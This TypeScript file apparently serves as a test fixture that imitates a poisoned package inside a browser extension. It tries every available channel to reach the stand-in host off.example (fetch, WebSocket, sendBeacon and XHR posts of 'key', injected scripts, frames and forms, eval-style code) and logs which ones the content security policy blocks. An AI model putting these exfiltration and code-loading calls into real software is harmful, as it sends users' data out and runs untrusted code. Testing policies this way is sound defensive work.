/** Code as a poisoned package would bring it: tries every way out and writes down what came of each. */

export interface Tries {
  tried: string[];
  /** Way → what the browser threw. */
  refused: Record<string, string>;
  /** Way → directive of the policy that stopped it, as the browser reported it. */
  violations: Record<string, string>;
}

/** Every try goes to a host of its own below this one, so that a request and a report tell which way they took. */
export const ELSEWHERE = 'off.example';

/** Travels into the extension as text and runs there, so it names nothing of other files; `tell` gets all that is known so far. */
export function tryEveryWayOut(tell: (tries: Tries) => void): void {
  const tries: Tries = {tried: [], refused: {}, violations: {}};
  addEventListener('securitypolicyviolation', ({blockedURI, sample, effectiveDirective}) => {
    const [, way = blockedURI] = new RegExp(`//(\\w+)\\.${ELSEWHERE}`).exec(`${blockedURI} ${sample}`) ?? [];
    tries.violations[way] = effectiveDirective;
    tell(tries);
  });
  const attempt = ([way, act]: [string, () => unknown]): void => {
    const refuse = (error: unknown): void => {
      tries.refused[way] = String(error);
      tell(tries);
    };
    tries.tried.push(way);
    try {
      Promise.resolve(act()).catch(refuse);
    } catch (error) {
      refuse(error);
    }
  };
  Object.entries({...anywhere, ...('document' in globalThis ? inDocuments : inWorkers)}).forEach(attempt);
  tell(tries);
}

type Ways = Record<string, () => unknown>;

const to = (way: string): string => `https://${way}.${ELSEWHERE}/`;
const code = (way: string): string => `/*${to(way)}*/globalThis.ran = true`;

const anywhere: Ways = {
  fetch: () => fetch(to('fetch'), {mode: 'no-cors'}),
  socket: () => new WebSocket(to('socket').replace('https', 'wss')),
  events: () => new EventSource(to('events')),
  import: () => import(to('import')),
  function: () => new Function(code('function'))(),
  timer: () => setTimeout(code('timer') as unknown as () => void),
};

const inWorkers: Ways = {
  scripts: () => importScripts(to('scripts')),
};

const inDocuments: Ways = {
  beacon: () => navigator.sendBeacon(to('beacon'), 'key'),
  xhr() {
    const request = new XMLHttpRequest();
    request.open('POST', to('xhr'));
    request.send('key');
  },
  image: () => add('img', {src: to('image')}),
  style: () => add('link', {rel: 'stylesheet', href: to('style')}),
  frame: () => add('iframe', {src: to('frame')}),
  video: () => add('video', {src: to('video')}),
  object: () => add('object', {data: to('object')}),
  script: () => add('script', {src: to('script')}),
  inline: () => add('script', {textContent: code('inline')}),
  worker: () => new Worker(to('worker')),
  markup() {
    document.createElement('div').innerHTML = `<img src="${to('markup')}">`;
  },
  form() {
    add('form', {action: to('form'), method: 'post'});
    document.forms[document.forms.length - 1]!.submit();
  },
};

function add(name: string, properties: object): void {
  document.head.append(Object.assign(document.createElement(name), properties));
}
